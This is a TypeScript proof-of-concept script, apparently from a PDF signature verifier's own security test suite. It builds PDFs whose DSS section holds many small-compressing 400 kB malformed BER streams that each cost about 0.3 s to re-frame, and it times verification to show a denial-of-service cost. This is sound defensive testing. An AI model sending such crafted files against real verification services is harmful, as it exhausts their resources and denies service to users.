// The lead's derFramed (884d3d1) runs on every DSS item whose DER shape test fails, junk included, before deciding it
// is junk: a value of up to maxAsn1Nodes (200,000) ASN.1 values costs ~0.3 s to re-frame (an object per value), and
// junk counts against no item limit. A stream of 400 kB of `30 80 05 00 05 00 ... 00 00` (a SEQUENCE in BER whose
// first value is not the kind's: re-framed in full, then junk) deflates to ~1 kB; K of them cost K x 0.3 s, up to the
// 1 GiB maxTotalDecodedBytes (~2,600 streams, ~14 min; extrapolated, then INDETERMINATE on the limit).
//   npx tsx scripts/attack-s8/ber-reframe-cost.ts [junk|honest] [K]
// junk: samples/valid/archive.pdf plus one DSS revision listing K (default 50) such streams as OCSP responses.
// honest: K streams of 400 kB of zero bytes (junk without a SEQUENCE: no re-framing).
import { sample, save, show, verify, work } from "../attack36/lib.js";
import { withDssStreams } from "../attack-s6/lib.js";

const mode = process.argv[2] ?? "junk";
if (!["junk", "honest"].includes(mode)) throw new Error(`mode: junk|honest, not ${mode}`);
const k = Number(process.argv[3] ?? 50);
const values = 199_990;
const body = new Uint8Array(4 + values * 2);
body.set([0x30, 0x80]);
if (mode === "junk") for (let i = 0; i < values; i++) body.set([0x05, 0x00], 2 + 2 * i);
const pdf = withDssStreams(sample("valid/archive.pdf"), {
  ocsps: Array.from({ length: k }, () => ({ bytes: mode === "junk" ? body : new Uint8Array(body.length) })),
});
const file = save(work(`s8-reframe-${mode}-${k}`), "archive.pdf", pdf);
console.log(`wrote ${file} (${pdf.length} bytes): ${k} DSS streams of ${body.length} bytes (${mode})`);
const t0 = Date.now();
const v = verify(file);
console.log(`== verify took ${((Date.now() - t0) / 1000).toFixed(1)} s`);
show(`${mode} ${k}`, v);
